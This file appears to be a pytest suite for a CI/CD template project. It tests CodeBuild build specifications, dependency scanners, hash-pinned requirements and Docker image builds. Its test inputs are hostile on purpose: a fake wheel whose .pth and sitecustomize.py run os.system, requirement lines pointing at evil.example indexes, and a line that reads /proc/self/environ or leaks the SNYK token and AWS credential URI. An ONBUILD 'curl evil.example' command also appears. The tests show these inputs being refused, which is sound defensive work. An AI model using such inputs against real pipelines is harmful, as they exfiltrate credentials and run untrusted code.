"""Build specifications can be parsed, and their phases really run on the example application."""

from __future__ import annotations

import json
import re
import shutil
import subprocess
import sys
import tarfile
from pathlib import Path
from typing import Any

import pytest
import yaml

from cicd_templates.builds import buildspecs, image_build
from cicd_templates.builds.check_presets import PRESETS
from cicd_templates.builds.configured_checks import checks_of
from tests.conftest import ROOT
from tests.projects.rendering import EXAMPLE
from tests.unit.builds.build_runner import SERVICE, checked, commands, digest_of, run, service

CONNECTION = "arn:aws:codeconnections:eu-central-1:111111111111:connection/1"
PINS = ROOT / "src/cicd_templates/builds/pins"


def every_buildspec() -> dict[str, str]:
    of = service()
    checks = {check.name: buildspecs.check(of, check) for check in checks_of(of)}
    others = {
        "image": image_build.image(of),
        "sbom": buildspecs.bill_of_materials(of),
        "scan": buildspecs.image_scan(),
        "smoke": buildspecs.smoke_test(of),
    }
    return checks | others


@pytest.mark.parametrize(("name", "text"), every_buildspec().items())
def test_every_command_is_valid_for_the_shell(name: str, text: str) -> None:
    specification = yaml.load(text, Loader=yaml.CSafeLoader)

    assert specification["version"] == 0.2
    for phase in specification["phases"].values():
        for command in phase["commands"]:
            for shell in ("bash", "sh") if name != "image" else ("bash",):
                parsed = subprocess.run([shell, "-n"], input=command, capture_output=True, text=True, check=False)
                assert parsed.returncode == 0, parsed.stderr
            # Within && or || a shell ignores `set -e`, so a subshell with it stands alone.
            assert not re.search(r"^\) *(&&|\|\|)", command, re.MULTILINE)


@pytest.fixture
def source(tmp_path: Path) -> Path:
    """Return the example as CodeBuild unpacks it."""
    copy = tmp_path / "source"
    shutil.copytree(EXAMPLE, copy, ignore=shutil.ignore_patterns("__pycache__"))
    return copy


def test_the_unit_tests_run_and_report_as_junit(source: Path) -> None:
    record, report = checked("unit-tests", source)

    assert record["exit_code"] == 0
    assert re.search(r'<testsuite .*errors="0" failures="0"', report.read_text())
    assert (record["source_version"], record["execution"], record["build"]) == ("v.1_2-3", "e-1", "shipping:1")
    assert record["started"] <= record["finished"]


def test_a_failing_test_is_noted_and_does_not_fail_the_check(source: Path) -> None:
    (source / "tests/test_more.py").write_text("def test_wrong():\n    assert 1 == 2\n")
    record, report = checked("unit-tests", source)

    assert record["exit_code"] == 1
    assert 'failures="1"' in report.read_text()


def test_safety_finds_no_policy_of_the_source(source: Path, tmp_path: Path) -> None:
    for name in (".safety-policy.yml", ".safety-project.ini"):
        (source / name).write_text("ignore: everything")
    (tmp_path / "tmp/tool/bin").mkdir(parents=True)
    (tmp_path / "tmp/tool/bin/python3").symlink_to(sys.executable)
    stub(tmp_path / "tmp/tool/bin", "safety", 'ls -A "$PWD" > "${REPORT:-/dev/null}"')
    of = service()
    specification = buildspecs.check(of, next(check for check in checks_of(of) if check.name == "safety"))
    run(commands(specification, "install")[0], source)
    run(commands(specification)[0], source)

    assert (source / ".report/report.json").read_text().split() == ["requirements.txt"]
    assert (tmp_path / "tmp/judged/requirements.txt").read_text() == "waitress==3.0.2\n"
    assert json.loads((source / ".report/run.json").read_text())["not_read"] == []


@pytest.mark.parametrize("name", ["pip-audit", "safety", "snyk"])
def test_dependencies_that_a_scanner_cannot_see_are_in_the_record(name: str, source: Path, tmp_path: Path) -> None:
    (source / "poetry.lock").write_text('[[package]]\nname = "flask"\nversion = "0.12"\n')
    (tmp_path / "tmp/tool/bin").mkdir(parents=True)
    (tmp_path / "tmp/tool/bin/python3").symlink_to(sys.executable)
    stub(tmp_path / "tmp/tool/bin", name, "echo 1")
    of = service((f"{SERVICE}/checks", {name: {"preset": name}}))
    specification = buildspecs.check(of, next(check for check in checks_of(of) if check.name == name))
    run(commands(specification, "install")[0], source)
    run(commands(specification)[0], source)

    record = json.loads((source / ".report/run.json").read_text())
    assert (record["not_read"], record["exit_code"]) == (["poetry.lock: flask 0.12"], 0)


@pytest.mark.parametrize(
    ("files", "audited"),
    [
        pytest.param({}, "requirements.txt", id="nothing, so that it does not audit itself"),
        pytest.param({"requirements.txt": "a==1\n"}, "requirements.txt", id="one file"),
        pytest.param(
            {"requirements.txt": "a==1\n", "web/requirements-dev.txt": "b==2\n"},
            "2-requirements.txt --requirement requirements.txt",
            id="two files",
        ),
    ],
)
def test_pip_audit_reads_only_copies_of_the_requirements_and_installs_nothing(
    files: dict[str, str], audited: str, source: Path, tmp_path: Path
) -> None:
    (source / "requirements.txt").unlink(missing_ok=True)
    for name, text in files.items():
        (source / name).parent.mkdir(exist_ok=True)
        (source / name).write_text(text)
    (tmp_path / "tmp/tool/bin").mkdir(parents=True)
    (tmp_path / "tmp/tool/bin/python3").symlink_to(sys.executable)
    stub(tmp_path / "tmp/tool/bin", "pip-audit", 'echo "$@"')
    of = service((f"{SERVICE}/checks", {"pip-audit": {"preset": "pip-audit"}}))
    specification = buildspecs.check(of, checks_of(of)[0])
    run(commands(specification, "install")[0], source)
    run(commands(specification)[0], source)

    (line,) = (source / ".report/report.json").read_text().splitlines()
    assert line == f"--progress-spinner off --disable-pip --no-deps --format json --requirement {audited}"


def test_snyk_ignores_the_policy_of_the_source() -> None:
    (command,) = PRESETS["snyk"]().commands

    assert "\ncd /tmp/judged\n/tmp/tool/bin/snyk test " in command
    assert " --ignore-policy " in command


WHEEL = """\
echo "token: ${SNYK_TOKEN-none}"
mkdir -p /tmp/wheels/evil /tmp/wheels/evil-1.dist-info
echo "import os; os.system('touch ran')" | tee /tmp/wheels/evil.pth > /tmp/wheels/sitecustomize.py
printf 'Metadata-Version: 2.1\\nName: evil\\nVersion: 1\\n' > /tmp/wheels/evil-1.dist-info/METADATA
"""


def test_packages_of_the_application_are_installed_by_hash_as_wheels_for_its_tests(source: Path) -> None:
    (install,) = PRESETS["unit-tests"]().install
    stub(source.parent / "tmp/tool/bin", "pip", "")

    assert run(install, source).returncode == 0
    called = (source.parent / "tmp/tool/bin/calls").read_text()
    assert "--no-deps --require-hashes --only-binary :all: --requirement requirements.txt" in called


def test_snyk_gets_the_metadata_of_the_packages_and_none_of_their_code_beside_its_token(source: Path) -> None:
    (install,) = PRESETS["snyk"]().install
    temporary = source.parent / "tmp"
    stub(temporary / "tool/bin", "pip", WHEEL.replace("/tmp", str(temporary)))
    (temporary / "tool/bin/python3").symlink_to(sys.executable)
    answer = run(install, source, SNYK_TOKEN="t")

    assert answer.returncode == 0, answer.stderr
    assert "token: none" in answer.stdout
    assert "--no-deps --require-hashes --only-binary :all:" in (temporary / "tool/bin/calls").read_text()
    listed = "import importlib.metadata as m; print([each.name for each in m.distributions()])"
    python = subprocess.run([temporary / "described/bin/python3", "-c", listed], cwd=source, capture_output=True)
    assert python.stdout == b"['evil']\n"
    assert not (source / "ran").exists()
    assert {path.name for path in (temporary / "described/lib").rglob("*") if "evil" in path.name} == {
        "evil-1.dist-info"
    }


def pinned(text: str, folder: Path) -> subprocess.CompletedProcess[str]:
    (folder / "requirements.txt").write_text(text)
    script = ROOT / "src/cicd_templates/builds/scripts/pinned_requirements.py"
    command = [sys.executable, "-I", str(script), "requirements.txt"]
    return subprocess.run(command, cwd=folder, capture_output=True, text=True, check=False)


HASH = f"--hash=sha256:{'a' * 64}"


@pytest.mark.parametrize(
    "text",
    [
        pytest.param(f"a==1 {HASH}\n", id="one line"),
        pytest.param(
            f"A.b-c[x,y]==1.0.post1+local \\\n    {HASH} \\\n    {HASH}\n    # via d\n", id="as pip-compile writes"
        ),
        pytest.param(f'a==1 ; python_version < "3.12" \\\n    {HASH}\n', id="a marker"),
        pytest.param(f"a==1 ; os_name >= 'nt' or extra != 'x' {HASH}\n", id="a marker with a choice"),
        pytest.param("# nothing\n\n", id="none"),
    ],
)
def test_requirements_by_version_and_hash_are_taken(text: str, tmp_path: Path) -> None:
    answer = pinned(text, tmp_path)

    assert answer.returncode == 0, answer.stderr
    assert answer.stdout.count("==") == text.count("==")


def test_every_package_is_described_whatever_its_marker_says_but_those_of_other_systems(tmp_path: Path) -> None:
    lines = [
        f"a==1 ; python_version < '3' {HASH}",
        f'b[x]==2 ; sys_platform == "linux" {HASH}',
        f"c==3 ; sys_platform == 'win32' {HASH}",
        f"d==4 ; python_version < '3' and os_name == 'nt' {HASH}",
    ]
    answer = pinned("\n".join(lines), tmp_path)

    assert answer.stdout.splitlines() == [f"a==1 {HASH}", f"b[x]==2 {HASH}"]


def test_a_package_that_is_pinned_twice_for_different_pythons_is_refused(tmp_path: Path) -> None:
    lines = [f"a.b==1 ; python_version < '3' {HASH}", f"A-b==2 ; python_version >= '3' {HASH}"]
    answer = pinned("\n".join(lines), tmp_path)

    assert answer.returncode == 1
    assert answer.stderr == (
        "requirements.txt: a-b is pinned twice, but checks can examine only one version; keep the version that is in"
        " the image\n"
    )


@pytest.mark.parametrize(
    "line",
    [
        "a",
        "a==1",
        f"a>=1 {HASH}",
        f"a @ https://evil.example/a-1.tar.gz {HASH}",
        f"https://evil.example/a-1.tar.gz {HASH}",
        f"./a-1.tar.gz {HASH}",
        f"a==1 ; python_version @ https://evil.example {HASH}",
        "-e .",
        "--editable=.",
        "-r other.txt",
        "-c /proc/self/environ",
        "--no-binary :all:",
        "--no-binary=a",
        f"a==1 {HASH} --config-settings=x=y",
        f"a==1 {HASH} --global-option=x",
        "--find-links http://evil.example",
        "--index-url http://evil.example",
        "--index-url https://evil.example/simple",
        "--extra-index-url=https://evil.example/simple",
        "# coding: utf-7",
        "#-*- coding=unicode_escape -*-",
        "# reviewed \\",
        "--trusted-host evil.example",
        "--pre",
        "${SNYK_TOKEN}",
        "--index-url https://evil.example/${AWS_CONTAINER_CREDENTIALS_RELATIVE_URI}",
    ],
)
def test_whatever_else_requirements_hold_is_refused_by_its_line(line: str, tmp_path: Path) -> None:
    answer = pinned(f"b==2 {HASH}\n{line}\n", tmp_path)

    assert answer.returncode == 1
    assert line.split()[0] in answer.stderr
    assert len(answer.stderr.splitlines()) == 1


@pytest.mark.parametrize("data", [b"\xef\xbb\xbfa==1", "a==1 # caf\u00e9".encode(), "a==1".encode("utf-16"), b"\xff"])
def test_requirements_that_are_not_ascii_are_refused(data: bytes, tmp_path: Path) -> None:
    script = ROOT / "src/cicd_templates/builds/scripts/pinned_requirements.py"
    (tmp_path / "requirements.txt").write_bytes(data)
    command = [sys.executable, "-I", str(script), "requirements.txt"]
    answer = subprocess.run(command, cwd=tmp_path, capture_output=True, text=True, check=False)

    assert answer.returncode == 1
    assert "can make pip and a scanner read different packages" in answer.stderr


def test_the_example_can_be_installed_by_hash_alone(source: Path) -> None:
    lines = (source / "requirements.txt").read_text()

    for pinned in re.findall(r"^[a-z].*?(?=^[a-z]|\Z)", lines, re.MULTILINE | re.DOTALL):
        assert re.match(r"[a-z0-9-]+==\S+", pinned)
        assert "--hash=sha256:" in pinned


def test_only_the_known_checks_run_no_code_of_the_application() -> None:
    edits = [
        (f"{SERVICE}/checks/bandit", {"preset": "bandit", "install": ["pip install -r requirements.txt"]}),
        (f"{SERVICE}/checks/own", {"preset": "secrets", "commands": ["make scan > $REPORT"]}),
        (f"{SERVICE}/checks/safety", {"preset": "safety", "commands": ["safety x"], "runs_application": False}),
        (f"{SERVICE}/checks/unit-tests", ...),
    ]
    running = {check.name: check.runs_application for check in checks_of(service(*edits))}

    assert running == {"bandit": True, "safety": False, "snyk": False, "secrets": False, "own": True}


def test_a_broken_tool_leaves_its_record_and_no_report(source: Path) -> None:
    of = service((f"{SERVICE}/checks/bandit", {"preset": "bandit", "commands": ["exit 7", "touch $REPORT"]}))
    check = next(each for each in checks_of(of) if each.name == "bandit")
    specification = buildspecs.check(of, check)
    run(commands(specification, "install")[0], source)
    (command,) = commands(specification)

    assert run(command, source).returncode == 0
    assert json.loads((source / ".report/run.json").read_text())["exit_code"] == 7
    assert not (source / ".report/report.json").exists()


@pytest.mark.long
def test_the_bill_of_materials_lists_what_is_pinned(source: Path) -> None:
    write = commands(buildspecs.bill_of_materials(service()))[0]
    answer = run(write, source)
    sbom = json.loads((source.parent / "tmp/sbom.cdx.json").read_text())

    assert answer.returncode == 0, answer.stderr
    assert sbom["bomFormat"] == "CycloneDX"
    assert "waitress" in [component["name"] for component in sbom["components"]]


def stub(folder: Path, name: str, script: str) -> None:
    """Write a program with that name, which writes its arguments to a file beside it."""
    folder.mkdir(parents=True, exist_ok=True)
    path = folder / name
    path.write_text(f'#!/bin/bash\necho "{name} $*" >> "{folder}/calls"\n{script}\n')
    path.chmod(0o755)


IMAGE_VARIABLES = {
    "REPOSITORY": "shipping",
    "REPOSITORY_URI": "1.dkr.ecr.eu-central-1.amazonaws.com/shipping",
    "SERVICE": "parcel-dispatcher",
    "EVIDENCE_BUCKET": "evidence",
}
DIGEST = "sha256:" + "d" * 64


# A `docker` of which every image has no ONBUILD commands.
INSPECT = """[ "$1" = image ] && echo '[{"Config": {"OnBuild": []}}]'; [ "$1" = login ] && cat > /dev/null; true"""
# What `docker export` prints: the image's files, or those of its base image, as the container is named.
EXPORT = """
case "$1" in
  image) echo '[{{"Config": null}}]';;
  create) case "$*" in *shipping@*) echo image;; *) echo base;; esac;;
  export) cat "{0}/$2.tar";;
esac"""


def image_files(folder: Path, *packages: str, base: str) -> None:
    """Write the files of an image and its base image. Each package is given by its name and version."""
    for name, contents in (("image", packages), ("base", (base,))):
        with tarfile.open(folder / f"{name}.tar", "w") as archive:
            for package in contents:
                archive.addfile(tarfile.TarInfo(f"site-packages/{package}.dist-info/METADATA"))


def image_variables(source: Path) -> dict[str, str]:
    return {**IMAGE_VARIABLES, "SOURCE_DIGEST": digest_of(source)}


def test_an_image_is_built_pushed_and_noted_by_its_digest(source: Path, tmp_path: Path) -> None:
    bin_folder = tmp_path / "bin"
    stub(
        bin_folder,
        "aws",
        f"""case "$*" in
  *describe-images*) [ -f "{tmp_path}/pushed" ] && echo {DIGEST} || {{ echo ImageNotFoundException >&2; exit 254; }};;
  *get-login-password*) echo secret;;
  *put-object*) echo '{{}}';;
esac""",
    )
    # What is piped into a login has to be read, or the sender is broken off.
    push = f'[ "$1" = push ] && touch "{tmp_path}/pushed"'
    record_attestations = f'echo "attestations: $BUILDX_NO_DEFAULT_ATTESTATIONS" > "{tmp_path}/attestations"'
    built = f'[ "$1" = build ] && cp Dockerfile "{tmp_path}/built" && {record_attestations}'
    image_files(tmp_path, "python-3.13", base="python-3.13")
    docker = f'[ "$1" = login ] && cat > /dev/null; {built}; {push}; {EXPORT.format(tmp_path)}\nexit 0'
    stub(bin_folder, "docker", docker)
    text = "\n".join(commands(image_build.image(service())))
    answer = run(f"{text}\necho $IMAGE_URI", source, bin_folder, **image_variables(source))
    calls = (bin_folder / "calls").read_text()

    assert answer.returncode == 0, answer.stderr
    assert answer.stdout.splitlines()[-1] == f"1.dkr.ecr.eu-central-1.amazonaws.com/shipping@{DIGEST}"
    registry = "1.dkr.ecr.eu-central-1.amazonaws.com"
    assert f"docker build --pull --file {tmp_path}/tmp/built/Dockerfile --tag {registry}/shipping:v-v.1_2-3" in calls
    # An index with attestations would be pushed otherwise, and the registry's scan is of an image.
    assert "attestations: 1" in (tmp_path / "attestations").read_text()
    assert "docker push 1.dkr.ecr.eu-central-1.amazonaws.com/shipping:v-v.1_2-3" in calls
    assert "--key parcel-dispatcher/e-1/image-packages.cdx.json" in calls
    packages = json.loads((tmp_path / "tmp/image-packages.cdx.json").read_text())
    assert [each["purl"] for each in packages["components"]] == ["pkg:pypi/python@3.13"]
    (base,) = [line for line in (source / "Dockerfile").read_text().splitlines() if line.startswith("FROM ")]
    assert f"docker pull --quiet {base.removeprefix('FROM ')}" in calls
    locked = f"docker build --file {tmp_path}/tmp/built/Locked --target stage-0 --tag locked:stage-0 ."
    assert calls.index("docker push") < calls.index(locked) < calls.index("docker create --network none locked:stage-0")
    assert "docker run" not in calls
    assert "--if-none-match *" in calls


def test_an_image_that_is_there_is_not_built_again(source: Path, tmp_path: Path) -> None:
    stub(tmp_path / "bin", "aws", f'case "$*" in *) echo {DIGEST};; esac')
    stub(tmp_path / "bin", "docker", INSPECT)
    build, export, *_ = commands(image_build.image(service()))
    answer = run(f"{build}\n{export}\necho $IMAGE_URI", source, tmp_path / "bin", **image_variables(source))

    assert answer.stdout.splitlines()[-1] == f"1.dkr.ecr.eu-central-1.amazonaws.com/shipping@{DIGEST}"
    assert not re.search("docker (build|push)", (tmp_path / "bin/calls").read_text())


@pytest.mark.parametrize(
    "answer",
    ["", "None", DIGEST[:-1], f"{DIGEST}0", f'{DIGEST}","type":"PLAINTEXT"', f"{DIGEST}\n{DIGEST}", "sha512:1"],
)
def test_only_a_digest_is_handed_to_later_actions(source: Path, tmp_path: Path, answer: str) -> None:
    export = commands(image_build.image(service()))[1]
    (source.parent / "tmp").mkdir()
    (source.parent / "tmp/digest").write_text(answer)
    ended = run(f"{export}\nif [ $? = 0 ]; then echo $IMAGE_URI; fi", source, tmp_path / "bin", **IMAGE_VARIABLES)

    assert ended.stdout == ""
    assert "instead of a digest (sha256:<64 hexadecimal digits>)" in ended.stderr


def test_an_image_with_a_package_that_no_check_judged_is_refused(source: Path, tmp_path: Path) -> None:
    image_files(tmp_path, "pip-25.1", "flask-0.12", base="pip-25.1")
    stub(tmp_path / "bin", "docker", EXPORT.format(tmp_path))
    stub(tmp_path / "bin", "aws", "exit 1")
    (source.parent / "tmp").mkdir()
    (source.parent / "tmp/base_images").write_text("base\n")
    (source.parent / "tmp/locked_stages").write_text("\n")
    examine = commands(image_build.image(service()))[2]
    answer = run(examine, source, tmp_path / "bin", IMAGE_URI="x/shipping@sha256:1", **IMAGE_VARIABLES)

    assert answer.returncode == 1
    assert "'flask' '0.12' in 'site-packages/flask-0.12.dist-info'" in answer.stderr
    assert "aws" not in (tmp_path / "bin/calls").read_text()


def test_where_installs_need_no_lock_every_list_of_an_installer_counts() -> None:
    unlocked = commands(image_build.image(service((f"{SERVICE}/build/unlocked_installs", True))))[2]
    locked = commands(image_build.image(service()))[2]

    assert ('--lists-of "${bases[@]}" "${locked[@]}"' in locked, "docker build" in locked) == (True, True)
    assert ('--lists-of "${bases[@]}' in unlocked, "docker build" in unlocked) == (False, False)
    assert ('--stages "${locked[@]}")' in locked, '--stages "${locked' in unlocked) == (True, False)


DOWNLOAD = f"curl -o /opt/tool https://example.com/tools/tool && echo '{'a' * 64}  /opt/tool' | sha256sum --check"


@pytest.mark.parametrize(
    ("dockerfile", "edits", "reason"),
    [
        ("FROM evil.example/x", [], "Dockerfile:1: evil.example/x is not pinned"),
        (
            "FROM scratch\nRUN pip install flask",
            [],
            "Dockerfile:2: pip install can install or download content that no lock file lists",
        ),
        ("FROM scratch\nRUN pip install flask", [("unlocked_installs", True)], ""),
        (
            f"FROM scratch\nRUN {DOWNLOAD}",
            [],
            "Dockerfile:2: curl or wget can install or download content that no lock file lists",
        ),
        (f"FROM scratch\nRUN {DOWNLOAD}", [("downloads", ["https://example.com/tools/"])], ""),
        (f"FROM ghcr.io/x@sha256:{'a' * 64}", [], "ghcr.io/x is not an allowed base image"),
        (f"FROM ghcr.io/x@sha256:{'a' * 64}", [("base_images", ["ghcr.io"])], ""),
    ],
)
def test_a_dockerfile_with_unjudged_content_builds_no_image(
    dockerfile: str, edits: list[tuple[str, Any]], reason: str, source: Path, tmp_path: Path
) -> None:
    (source / "Dockerfile").write_text(dockerfile)
    (source / "Dockerfile.dockerignore").write_text("tests")
    stub(tmp_path / "bin", "aws", f"echo {DIGEST}")
    stub(tmp_path / "bin", "docker", INSPECT)
    of = service(*((f"{SERVICE}/build/{key}", value) for key, value in edits))
    answer = run(commands(image_build.image(of))[0], source, tmp_path / "bin", **image_variables(source))

    assert (answer.returncode == 0) is (reason == ""), answer.stderr
    assert reason in answer.stderr
    assert (tmp_path / "bin/calls").exists() is (reason == "")
    if not reason:
        # Allowed as a whole, the Dockerfile is built as it is; otherwise it needs no network here.
        assert (tmp_path / "tmp/built/Dockerfile").read_text() == dockerfile
        assert (tmp_path / "tmp/built/Dockerfile.dockerignore").read_text() == "tests"


@pytest.mark.parametrize("answer", ['[{"Config": {"OnBuild": ["RUN curl evil.example"]}}]', "", "[", "[1]"])
def test_a_base_image_with_onbuild_commands_builds_no_image(answer: str, source: Path, tmp_path: Path) -> None:
    stub(tmp_path / "bin", "aws", f"echo {DIGEST}")
    stub(tmp_path / "bin", "docker", f"[ $1 = image ] && echo '{answer}'; true")
    refused = run(commands(image_build.image(service()))[0], source, tmp_path / "bin", **image_variables(source))

    assert refused.returncode == 1
    assert "has ONBUILD commands, or cannot be inspected; take another image" in refused.stderr
    assert "docker login" not in (tmp_path / "bin/calls").read_text()


@pytest.mark.parametrize(("hosts", "built"), [([], False), (["x.example"], False), (["packages.example.com"], True)])
def test_an_unknown_package_index_builds_no_image(hosts: list[str], built: bool, source: Path, tmp_path: Path) -> None:
    (source / "more-requirements.txt").write_text("--extra-index-url https://packages.example.com/simple\n")
    (source / "Dockerfile").write_text("FROM scratch")
    stub(tmp_path / "bin", "aws", f"echo {DIGEST}")
    stub(tmp_path / "bin", "docker", INSPECT)
    of = service((f"{SERVICE}/build/indexes", hosts))
    answer = run(commands(image_build.image(of))[0], source, tmp_path / "bin", **image_variables(source))

    assert (answer.returncode == 0, (tmp_path / "bin/calls").exists()) == (built, built)
    refusal = "'more-requirements.txt':1: `indexes` of [services.parcel-dispatcher.build] does not allow"
    assert (f"{refusal} 'https://packages.example.com/simple'" in answer.stderr) is not built


@pytest.mark.parametrize(
    ("aws", "docker"),
    [
        pytest.param("echo AccessDenied >&2; exit 254", "exit 0", id="the registry refuses"),
        pytest.param("echo ImageNotFoundException >&2; exit 254", "exit 1", id="the build fails"),
    ],
)
def test_an_image_that_cannot_be_built_fails_the_build(source: Path, tmp_path: Path, aws: str, docker: str) -> None:
    stub(tmp_path / "bin", "aws", f'case "$*" in *describe-images*) {aws};; esac')
    stub(tmp_path / "bin", "docker", docker)
    build = commands(image_build.image(service()))[0]

    assert run(build, source, tmp_path / "bin", **image_variables(source)).returncode != 0
    assert "docker push" not in (tmp_path / "bin/calls").read_text()


def test_evidence_of_a_further_attempt_is_put_beside_and_another_refusal_fails(source: Path, tmp_path: Path) -> None:
    put = f"(\n{image_build.put_evidence('/dev/null', 'image-packages', '.cdx.json')}\n)"
    there = "*e-1/image-packages.cdx.json*|*e-1/image-packages-2.cdx.json*) echo PreconditionFailed >&2; exit 254;;"
    stub(tmp_path / "bin", "aws", f'case "$*" in {there} esac')
    assert run(put, source, tmp_path / "bin", **IMAGE_VARIABLES).returncode == 0
    keys = re.findall(r"--key (\S+)", (tmp_path / "bin/calls").read_text())
    assert keys == [f"parcel-dispatcher/e-1/image-packages{number}.cdx.json" for number in ("", "-2", "-3")]

    stub(tmp_path / "bin", "aws", "echo PreconditionFailed >&2; exit 254")
    assert run(put, source, tmp_path / "bin", **IMAGE_VARIABLES).returncode == 1

    stub(tmp_path / "bin", "aws", "echo AccessDenied >&2; exit 254")
    answer = run(put, source, tmp_path / "bin", **IMAGE_VARIABLES)
    assert answer.returncode == 1
    assert "AccessDenied" in answer.stdout


def test_the_smoke_test_of_the_example_is_the_services_own(source: Path) -> None:
    smoke, integration = commands(buildspecs.smoke_test(service()))
    answer = run(smoke, source, SERVICE_URL="http://127.0.0.1:9")
    assert answer.returncode == 1
    assert "returned no valid response" in answer.stderr

    answer = run(integration, source, SERVICE_URL="http://127.0.0.1:9")
    assert answer.returncode == 1
    assert "integration: http://127.0.0.1:9 does not meet a requirement: it returns" in answer.stderr


def test_integration_tests_are_run_after_the_smoke_test_where_there_are_any() -> None:
    edits = [(f"{SERVICE}/smoke", ["true"]), (f"{SERVICE}/integration", ["make first", "make second"])]
    smoke, integration = commands(buildspecs.smoke_test(service(*edits)))

    assert ("true\n" in smoke, "make first\nmake second\n" in integration) == (True, True)
    assert len(commands(buildspecs.smoke_test(service((f"{SERVICE}/integration", ...))))) == 1


def test_a_connection_hands_on_the_whole_repository_and_the_service_is_a_folder_of_it() -> None:
    edits = [
        (f"{SERVICE}/path", "apps/pay"),
        (f"{SERVICE}/source", "github"),
        (f"{SERVICE}/github", {"repository": "me/pay", "connection_arn": CONNECTION}),
    ]
    command, _ = commands(buildspecs.smoke_test(service(*edits)))
    cut, _ = commands(buildspecs.smoke_test(service(edits[0])))

    assert 'cd "$CODEBUILD_SRC_DIR/apps/pay"' in command
    assert 'cd "$CODEBUILD_SRC_DIR/apps/pay"' in commands(image_build.image(service(*edits)))[0]
    assert 'cd "$CODEBUILD_SRC_DIR"' in cut


def test_a_check_of_another_language_is_only_data() -> None:
    own = {
        "image": "public.ecr.aws/x/go@sha256:" + "a" * 64,
        "commands": ["gosec -fmt sarif -out $REPORT ./..."],
        "format": "sarif",
        "tool": "gosec",
        "version": "gosec --version",
        "timeout_minutes": 20,
    }
    of = service((f"{SERVICE}/checks", {"gosec": own}))
    (check,) = checks_of(of)
    specification = yaml.load(buildspecs.check(of, check), Loader=yaml.CSafeLoader)

    assert (check.image, check.timeout_minutes, check.tool) == (own["image"], 20, "gosec")
    (policy,) = specification["phases"]["install"]["commands"]
    assert "scan-policy.toml" in policy
    assert "gosec -fmt sarif" in specification["phases"]["build"]["commands"][0]


def test_every_preset_can_be_asked_for() -> None:
    of = service((f"{SERVICE}/checks", {name: {"preset": name} for name in PRESETS}))

    assert [check.name for check in checks_of(of)] == list(PRESETS)


@pytest.mark.parametrize("path", sorted(PINS.glob("*.txt")), ids=lambda path: path.stem)
def test_every_package_of_a_tool_is_pinned_by_version_and_hash(path: Path) -> None:
    for line in path.read_text().splitlines():
        assert re.fullmatch(r"[a-z0-9-]+==\S+ --hash=sha256:[0-9a-f]{64}", line), line


@pytest.mark.parametrize("tool", ["bandit", "detect-secrets", "cyclonedx-bom"])
def test_the_tools_that_run_here_are_the_ones_that_are_pinned(tool: str) -> None:
    lines = [line for path in PINS.glob("*.txt") for line in path.read_text().splitlines()]
    pinned = {line.partition("==")[0]: line.partition("==")[2].split()[0] for line in lines}
    wanted = (ROOT / "requirements-dev.in").read_text()

    assert f"{tool}=={pinned[tool]}" in wanted


def test_the_policy_is_taken_from_the_source_before_anything_runs(source: Path) -> None:
    of = service()
    for check in checks_of(of):
        first, *_ = commands(buildspecs.check(of, check), "install")
        (source / "scan-policy.toml").write_text(f"# {check.name}")
        assert run(first, source).returncode == 0
        assert (source.parent / "tmp/report/scan-policy.toml").read_text() == f"# {check.name}"


def test_a_report_in_the_source_is_not_passed_on(source: Path) -> None:
    (source / "scan-policy.toml").unlink(missing_ok=True)
    (source / ".report").mkdir()
    for name in ("report.json", "scan-policy.toml"):
        (source / ".report" / name).write_text("{}")
    of = service((f"{SERVICE}/checks/bandit", {"preset": "bandit", "commands": ["exit 7"]}))
    specification = buildspecs.check(of, next(each for each in checks_of(of) if each.name == "bandit"))
    for command in (commands(specification, "install")[0], commands(specification)[0]):
        assert run(command, source).returncode == 0

    assert [path.name for path in (source / ".report").iterdir()] == ["run.json"]
